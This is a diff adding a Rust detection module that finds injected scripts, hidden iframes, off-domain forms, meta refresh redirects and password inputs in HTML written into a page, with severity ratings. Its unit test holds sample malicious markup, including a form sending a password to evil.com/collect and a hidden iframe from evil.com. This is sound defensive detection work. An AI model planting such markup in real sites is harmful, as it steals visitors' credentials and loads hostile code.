@@ -0,0 +1,201 @@
+use core::fmt;
+use std::sync::LazyLock;
+
+use scraper::{ElementRef, Html, Selector};
+
+use crate::analysis::analyzer::Severity;
+
+// callees whose first argument is html inserted into the page
+pub const HTML_WRITING_CALLEES: [&str; 2] = ["document.write", "Element.innerHTML"];
+
+static INJECTED_ELEMENTS: LazyLock<Selector> = LazyLock::new(|| {
+    Selector::parse("script[src], iframe, form[action], meta[http-equiv], input[type]").unwrap()
+});
+
+#[derive(Debug, Clone, PartialEq)]
+pub enum InjectedElementKind {
+    ExternalScript,
+    Iframe,
+    HiddenIframe,
+    FormAction,
+    MetaRefresh,
+    PasswordInput
+}
+
+// an element of written html worth a finding, with the attributes that make it so
+#[derive(Debug, Clone)]
+pub struct InjectedElement {
+    pub kind: InjectedElementKind,
+    // url the element loads, posts to or redirects to
+    pub url: Option<String>,
+    pub attributes: Vec<(String, String)>
+}
+
+impl InjectedElement {
+    pub fn title(&self) -> &'static str {
+        match self.kind {
+            InjectedElementKind::ExternalScript => "external script injected into the page",
+            InjectedElementKind::Iframe => "iframe injected into the page",
+            InjectedElementKind::HiddenIframe => "hidden iframe injected into the page",
+            InjectedElementKind::FormAction => "form posting to another domain injected into the page",
+            InjectedElementKind::MetaRefresh => "meta refresh redirect injected into the page",
+            InjectedElementKind::PasswordInput => "password input injected into the page"
+        }
+    }
+
+    pub fn severity(&self) -> Severity {
+        match self.kind {
+            InjectedElementKind::Iframe => Severity::Moderate,
+            InjectedElementKind::ExternalScript
+            | InjectedElementKind::MetaRefresh
+            | InjectedElementKind::PasswordInput => Severity::High,
+            InjectedElementKind::HiddenIframe
+            | InjectedElementKind::FormAction => Severity::VeryHigh
+        }
+    }
+}
+
+impl fmt::Display for InjectedElement {
+    fn fmt(&self, f: &mut fmt::Formatter) -> fmt::Result {
+        let attributes: Vec<String> = self.attributes
+            .iter()
+            .map(|(k, v)| format!("{}={:?}", k, v))
+            .collect();
+        write!(f, "{}", attributes.join(" "))
+    }
+}
+
+fn attributes_of(element: &ElementRef, names: &[&str]) -> Vec<(String, String)> {
+    names
+        .iter()
+        .filter_map(|n| element.value().attr(n).map(|v| (n.to_string(), v.to_string())))
+        .collect()
+}
+
+// 0 or 1 pixel, with or without unit
+fn is_tiny(size: Option<&str>) -> bool {
+    match size.map(|s| s.trim().trim_end_matches("px").trim()) {
+        Some(_s) => _s.parse::<f32>().map(|v| v <= 1.0).unwrap_or(false),
+        None => false
+    }
+}
+
+fn is_hidden(element: &ElementRef) -> bool {
+    let style = element.value().attr("style").unwrap_or("").to_lowercase().replace(' ', "");
+    let tiny = is_tiny(element.value().attr("width")) && is_tiny(element.value().attr("height"));
+    tiny
+        || element.value().attr("hidden").is_some()
+        || style.contains("display:none")
+        || style.contains("visibility:hidden")
+        || (style.contains("width:0") && style.contains("height:0"))
+}
+
+// "5; url=https://evil.com" -> https://evil.com
+fn refresh_url(content: &str) -> Option<String> {
+    let (_, target) = content.split_once(';').unwrap_or(("", content));
+    let target = target.trim();
+    let url = match target.get(0..4) {
+        Some(_p) if _p.eq_ignore_ascii_case("url=") => target[4..].trim(),
+        _ => target
+    };
+    let url = url.trim_matches(['\'', '"']);
+    match url.is_empty() {
+        true => None,
+        false => Some(url.to_string())
+    }
+}
+
+// "/js/app.js", "page.html", "?q=1" but not "//cdn.com/a.js" or "data:..."
+pub fn is_relative_url(url: &str) -> bool {
+    let url = url.trim();
+    if url.starts_with("//") {
+        return false;
+    }
+    let scheme = url.split_once(':').map(|(s, _)| s).unwrap_or("");
+    let has_scheme = !scheme.is_empty()
+        && scheme.starts_with(|c: char| c.is_ascii_alphabetic())
+        && scheme.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'));
+    !has_scheme
+}
+
+// elements of the written html that load code, frame other pages, redirect
+// or ask for credentials. Urls are returned whatever their domain, the caller
+// knows which domains belong to the bait website
+pub fn injected_elements(html: &str) -> Vec<InjectedElement> {
+    let fragment = Html::parse_fragment(html);
+    let mut elements: Vec<InjectedElement> = Vec::new();
+    for _e in fragment.select(&INJECTED_ELEMENTS) {
+        let attr = |n: &str| _e.value().attr(n).map(|v| v.to_string());
+        let element = match _e.value().name() {
+            "script" => InjectedElement {
+                kind: InjectedElementKind::ExternalScript,
+                url: attr("src"),
+                attributes: attributes_of(&_e, &["src", "type", "async"])
+            },
+            "iframe" => InjectedElement {
+                kind: match is_hidden(&_e) {
+                    true => InjectedElementKind::HiddenIframe,
+                    false => InjectedElementKind::Iframe
+                },
+                url: attr("src"),
+                attributes: attributes_of(&_e, &["src", "srcdoc", "width", "height", "style", "hidden"])
+            },
+            "form" => InjectedElement {
+                kind: InjectedElementKind::FormAction,
+                url: attr("action"),
+                attributes: attributes_of(&_e, &["action", "method", "id", "name"])
+            },
+            "meta" if attr("http-equiv").is_some_and(|h| h.trim().eq_ignore_ascii_case("refresh")) => InjectedElement {
+                kind: InjectedElementKind::MetaRefresh,
+                url: attr("content").and_then(|c| refresh_url(&c)),
+                attributes: attributes_of(&_e, &["http-equiv", "content"])
+            },
+            "input" if attr("type").is_some_and(|t| t.trim().eq_ignore_ascii_case("password")) => InjectedElement {
+                kind: InjectedElementKind::PasswordInput,
+                url: None,
+                attributes: attributes_of(&_e, &["type", "name", "id", "autocomplete"])
+            },
+            _ => continue
+        };
+        elements.push(element);
+    }
+    elements
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_injected_elements_are_extracted() {
+        let html = r#"<p>promo</p>
+            <script src="https://cdn.evil.com/s.js"></script><script>inline()</script>
+            <iframe src="https://evil.com/frame" width="0" height="0px"></iframe>
+            <iframe src="https://ads.com/banner" width="300" height="250"></iframe>
+            <iframe src="https://evil.com/x" style="display: none"></iframe>
+            <form action="https://evil.com/collect" method="post"><input type="Password" name="pwd"><input type="text" name="user"></form>
+            <meta http-equiv="Refresh" content="0; URL='https://evil.com/landing'">"#;
+        let elements = injected_elements(html);
+        let kinds: Vec<InjectedElementKind> = elements.iter().map(|e| e.kind.clone()).collect();
+        assert_eq!(kinds, vec![
+            InjectedElementKind::ExternalScript,
+            InjectedElementKind::HiddenIframe,
+            InjectedElementKind::Iframe,
+            InjectedElementKind::HiddenIframe,
+            InjectedElementKind::FormAction,
+            InjectedElementKind::PasswordInput,
+            InjectedElementKind::MetaRefresh
+        ]);
+        assert_eq!(elements[0].url.as_deref(), Some("https://cdn.evil.com/s.js"));
+        assert_eq!(elements[1].to_string(), r#"src="https://evil.com/frame" width="0" height="0px""#);
+        assert_eq!(elements[5].to_string(), r#"type="Password" name="pwd""#);
+        assert_eq!(elements[6].url.as_deref(), Some("https://evil.com/landing"));
+        assert!(injected_elements("plain text").is_empty());
+
+        assert!(is_relative_url("/js/app.js"));
+        assert!(is_relative_url("checkout?step=2"));
+        assert!(!is_relative_url("//cdn.evil.com/s.js"));
+        assert!(!is_relative_url("HTTPS://evil.com"));
+        assert!(!is_relative_url("data:text/html,<p>"));
+    }
+}